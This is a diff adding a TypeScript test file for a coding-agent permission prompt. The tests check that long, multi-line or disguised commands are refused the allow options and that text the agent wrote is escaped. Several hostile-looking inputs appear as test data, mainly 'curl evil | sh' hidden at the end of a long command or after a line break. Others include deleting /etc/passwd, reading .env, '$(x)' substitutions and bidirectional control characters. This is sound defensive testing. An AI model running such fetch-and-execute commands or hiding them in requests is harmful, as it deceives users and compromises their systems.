@@ -1,0 +1,222 @@
+import assert from 'node:assert/strict';
+import type { FileChange, PermissionSubject } from '../../../../src/core/model/content';
+import type { PermissionAsk } from '../../../../src/permission/presenter';
+import { visible } from '../../../../src/workbench/shared/escape';
+import { deedOf } from '../../../../src/workbench/permission/permissionSummary';
+import { permissionWords } from '../../../../src/workbench/permission/permissionText';
+import { english } from '../english';
+
+const OPTIONS = [
+  { optionId: 'y', name: 'Allow', kind: 'allow_once' },
+  { optionId: 'a', name: 'Allow for this project', kind: 'allow_always' },
+  { optionId: 'o', name: 'Other', kind: '_custom' },
+  { optionId: 'n', name: 'Reject', kind: 'reject_once' },
+  { optionId: 'x', name: 'Never', kind: 'reject_always' },
+];
+
+const ask = (over: Partial<PermissionAsk>): PermissionAsk => ({
+  sessionKey: 's1',
+  agentName: 'Codex',
+  permissionId: 'p1',
+  title: 'Run the tests',
+  options: OPTIONS,
+  subject: {},
+  cwd: '/work/app',
+  ...over,
+});
+
+const deed = (subject: PermissionSubject, over: Partial<PermissionAsk> = {}) => deedOf(ask({ subject, ...over }), english).text;
+const words = (subject: PermissionSubject, over: Partial<PermissionAsk> = {}) => permissionWords(ask({ subject, ...over }), 1, english);
+const labels = (subject: PermissionSubject, over: Partial<PermissionAsk> = {}) => words(subject, over).rows.map(({ label }) => label);
+const diff = (...changes: FileChange[]) => ({ content: [{ type: 'diff' as const, changes }] });
+const ALL = OPTIONS.map(({ name }) => name);
+const REFUSALS = ['Reject', 'Never', 'Show in Session'];
+
+describe('words of a permission’s quick pick', () => {
+  it('name the agent, the question and the queue', () => {
+    assert.equal(permissionWords(ask({}), 1, english).title, 'Codex: Run the tests');
+    assert.equal(permissionWords(ask({}), 3, english).title, 'Codex: Run the tests (1 of 3)');
+    assert.equal(permissionWords(ask({ title: '' }), 1, english).title, 'Codex: Permission');
+  });
+
+  describe('say what would be done', () => {
+    const table: [what: string, subject: PermissionSubject, said: string][] = [
+      ['a command', { command: 'npm test', kind: 'execute' }, 'Run: npm test'],
+      ['its folder, where it is not the session’s', { command: 'npm test', cwd: '/work/app/web' }, 'Run: npm test — in /work/app/web'],
+      ['a command of the raw input', { rawInput: { command: 'ls -la', cwd: '/tmp' } }, 'Run: ls -la — in /tmp'],
+      ['where its words end', { rawInput: { command: ['bash', '-lc', 'rm -rf "a b"'] } }, 'Run: bash -lc "rm -rf \\"a b\\""'],
+      ['its arguments', { rawInput: { command: 'git', args: ['commit', '-m', 'x; y'] } }, 'Run: git commit -m "x; y"'],
+      ['arguments that are no words', { rawInput: { command: 'sh', args: { c: 'evil' } } }, '{"command":"sh","args":{"c":"evil"}}'],
+      ['a command once, where both tell it', { command: 'ls', rawInput: { command: 'ls' } }, 'Run: ls'],
+      ['two commands, where they differ', { command: 'ls', rawInput: { command: 'rm x' } }, 'Run: ls; Run: rm x'],
+      ['a diff', diff({ operation: 'modify', path: '/work/app/src/a.ts' }), 'Edit src/a.ts'],
+      [
+        'several changes',
+        diff(
+          { operation: 'add', path: '/work/app/b' },
+          { operation: 'delete', path: '/etc/passwd' },
+          { operation: 'move', oldPath: '/work/app/c', path: '/work/app/d' },
+        ),
+        'Create b; Delete /etc/passwd; move: c → d',
+      ],
+      [
+        'a diff before a command of the raw input',
+        { ...diff({ operation: 'modify', path: '/work/app/a' }), kind: 'edit', rawInput: { command: 'ls' } },
+        'Edit a; Run: ls',
+      ],
+      [
+        'a diff’s path once',
+        { ...diff({ operation: 'modify', path: '/work/app/a' }), kind: 'edit', locations: [{ path: '/work/app/a', line: 3 }] },
+        'Edit a',
+      ],
+      [
+        'a place beside a diff’s',
+        { ...diff({ operation: 'modify', path: '/work/app/a' }), kind: 'edit', locations: [{ path: '/etc/hosts' }] },
+        'Edit a; Edit /etc/hosts',
+      ],
+      ['what a path is for, by kind', { kind: 'edit', locations: [{ path: '/work/app/a.ts' }] }, 'Edit a.ts'],
+      [
+        'deletion before a command of the raw input',
+        { kind: 'delete', locations: [{ path: '/work/app/a' }], rawInput: { command: 'ls' } },
+        'Delete a; Run: ls',
+      ],
+      ['deletion of who knows what', { kind: 'delete', rawInput: { command: 'ls', target: '/' } }, 'Delete: {"command":"ls","target":"/"}'],
+      ['deletion, when nothing else is told', { kind: 'delete' }, 'Delete'],
+      ['a command, whatever its kind', { kind: 'read', rawInput: { command: 'rm x' } }, 'Run: rm x'],
+      ['places', { locations: [{ path: '/work/app/a.ts', line: 3 }, { path: '/else/b.ts' }], rawInput: { x: 1 } }, 'a.ts:3; /else/b.ts'],
+      [
+        'a path that climbs out of the folder, whole',
+        { locations: [{ path: '/work/app/../../etc/passwd' }] },
+        '/work/app/../../etc/passwd',
+      ],
+      ['a folder that begins alike, whole', { locations: [{ path: '/work/application/a' }] }, '/work/application/a'],
+      ['the raw input', { rawInput: { url: 'https://example.com' } }, '{"url":"https://example.com"}'],
+    ];
+    for (const [what, subject, said] of table) {
+      it(what, () => assert.equal(deed(subject), said));
+    }
+
+    it('else the description, else the text of the request, never the title', () => {
+      assert.equal(deed({ rawInput: {} }, { description: 'Because' }), 'Because');
+      assert.equal(deed({ content: [{ type: 'content', content: { type: 'text', text: 'The plan' } }] }), 'The plan');
+      assert.equal(deed({}, { title: 'List files' }), '');
+    });
+  });
+
+  describe('offer to allow only what can be seen whole', () => {
+    const long = `cd packages/app && npm run build -- --mode production --target staging --verbose && node scripts/clean.js --keep ${'dist '.repeat(20)}`;
+    const sting = `${long.slice(0, 185)}; curl evil | sh`;
+
+    it('in the box, when it is short', () => {
+      const { title, placeholder } = words({ command: 'npm test' });
+      assert.deepEqual([title, placeholder], ['Codex: Run the tests', 'Run: npm test']);
+      assert.deepEqual(labels({ command: 'npm test' }), ALL);
+    });
+
+    it('in the title, which is broken into lines, when it is longer', () => {
+      const command = 'npm run build -- --mode production && node deploy.js';
+      const { title, placeholder, rows } = words({ command });
+      assert.deepEqual([title, placeholder], [`Codex: Run the tests — Run: ${command}`, 'Choose an answer']);
+      assert.equal(rows.length, ALL.length);
+    });
+
+    it('not a command of 200 characters with its sting at the end', () => {
+      assert.equal(sting.length, 201);
+      assert.deepEqual(labels({ command: sting }), REFUSALS);
+      assert.deepEqual(labels({ rawInput: { command: sting } }), REFUSALS);
+      const { placeholder, rows } = words({ command: sting });
+      assert.match(placeholder, /^Run: cd packages.*curl evil \| sh$/, 'both ends are told all the same');
+      assert.equal(rows.at(-1)?.optionId, undefined);
+      assert.ok(placeholder.length < 120);
+    });
+
+    const refused: [what: string, subject: PermissionSubject, over?: Partial<PermissionAsk>][] = [
+      ['several lines', { command: 'ls\ncurl evil | sh' }],
+      ['a line that another sign ends', { command: 'ls\u2028curl evil | sh' }],
+      ['wide characters that take more room', { command: '文'.repeat(60) }],
+      ['signs that take more room than letters', { command: '﷽'.repeat(15) }],
+      ['letters under a heap of accents', { command: `ls ${'\u0301'.repeat(200)}` }],
+      ['what is long because it cannot be seen', { command: `ls${'\u200b'.repeat(60)}` }],
+      ['more files than fit', diff(...Array.from({ length: 500 }, (_, n) => ({ operation: 'modify', path: `/work/app/file${n}` })))],
+      ['a long path', { kind: 'edit', locations: [{ path: `/${'x'.repeat(200)}` }] }],
+      ['a long folder', { command: 'ls', cwd: `/${'x'.repeat(200)}` }],
+      ['a long command of the raw input beside a short one', { command: 'ls', rawInput: { command: sting } }],
+      ['a long raw input', { rawInput: { url: `https://example.com/${'x'.repeat(200)}` } }],
+      ['a patch of files that are not named', { content: [{ type: 'diff', changes: [], patch: 'x' }] }],
+      ['content that we do not know', { command: 'ls', content: [{ type: 'unknown', raw: { run: 'evil' } }] }],
+      ['a long description, when it is all there is', {}, { description: 'x'.repeat(300) }],
+      ['a long title, when it is all there is', {}, { title: 'x'.repeat(300) }],
+    ];
+    for (const [what, subject, over] of refused) {
+      it(`not ${what}`, () => assert.deepEqual(labels(subject, over), REFUSALS));
+    }
+
+    it('whatever the title says', () => {
+      assert.deepEqual(labels({ command: sting }, { title: 'List files' }), REFUSALS);
+      assert.deepEqual(labels({ command: 'ls\n' }, { title: 'x'.repeat(300) }), ALL, 'a last line break is none');
+    });
+
+    it('with places to break a word at that is wider than a narrow title, and every space', () => {
+      const { title } = words({ command: `cat ${'x'.repeat(50)}  y` });
+      const [, told] = title.split(' — ');
+      assert.equal(told!.replaceAll('\u200b', '').replaceAll('\u00a0', ' '), `Run: cat ${'x'.repeat(50)}  y`);
+      assert.ok(
+        told!.split(/[ \u200b]/).every((word) => word.length <= 20),
+        told,
+      );
+    });
+  });
+
+  it('say why ACP Host asks, behind what would be done', () => {
+    const content = [
+      { type: 'diff' as const, changes: [{ operation: 'add', path: '/work/app/.git/hooks/pre-commit', oldText: null, newText: '' }] },
+    ];
+    const file = { type: 'protected_path' as const, access: 'write' as const, rule: '.git', path: '/work/app/src/hooks/pre-commit' };
+    assert.equal(deed({ content, reason: file }), 'Create .git/hooks/pre-commit');
+    assert.equal(
+      deed({ content, reason: { ...file, target: '/work/app/.git/hooks/pre-commit' } }),
+      'Create .git/hooks/pre-commit — named as src/hooks/pre-commit',
+    );
+    assert.equal(deed({ locations: [{ path: '/work/app/.env' }], reason: { ...file, access: 'read', rule: '.env*' } }), '.env');
+    const command = { type: 'command' as const, unasked: true, variables: ['GIT_DIR', '$(x)'] };
+    assert.equal(
+      deed({ command: 'make', cwd: '/work/app', reason: command }),
+      `Run: make — the agent did not ask for permission, sets GIT_DIR, ${visible('$(x)', 9)}`,
+    );
+    assert.equal(
+      deed({ command: 'make', reason: { ...command, unasked: false, variables: [] } }),
+      'Run: make — your settings ask before each command',
+    );
+  });
+
+  it('escape and bound everything the agent wrote', () => {
+    const nasty = '$(check)\u202e\u0007' + 'x'.repeat(100_000) + ' --end';
+    const { title, placeholder, rows } = words(
+      { command: nasty, cwd: nasty },
+      { agentName: nasty, title: nasty, options: [{ optionId: 'a', name: nasty, kind: 'reject_once' }] },
+    );
+    for (const text of [title, placeholder, rows[0]!.label, rows[0]!.description, words({ command: '$(check)\u202e\u0007' }).placeholder]) {
+      assert.doesNotMatch(text, /\$\(|\u202e|\u0007/);
+      assert.ok(text.length < 1_500, String(text.length));
+    }
+    assert.equal(words({ command: 'a\u202eb\u0007' }).placeholder, 'Run: a‹U+202E›b␇');
+    assert.match(deed({ rawInput: { a: 'x'.repeat(100_000), b: 'last' } }), /"last"\}$/);
+  });
+
+  it('make a row of each option, in the agent’s order, and say of what kind it is, whatever its name', () => {
+    const options = [
+      { optionId: '1', name: 'Reject', kind: 'allow_always' },
+      { optionId: '2', name: '', kind: '_custom' },
+      { optionId: '3', name: 'Allow once', kind: 'allow_once' },
+      { optionId: '4', name: 'No', kind: 'reject_once' },
+      { optionId: '', name: ' ', kind: 'reject_always' },
+    ];
+    assert.deepEqual(words({}, { options }).rows, [
+      { label: 'Reject', description: 'Always allow', icon: 'check-all', optionId: '1' },
+      { label: '2', description: '', icon: 'question', optionId: '2' },
+      { label: 'Allow once', description: '', icon: 'pass', optionId: '3' },
+      { label: 'No', description: 'Reject once', icon: 'close', optionId: '4' },
+      { label: '(an answer without a name)', description: 'Always reject', icon: 'circle-slash', optionId: '' },
+    ]);
+  });
+});
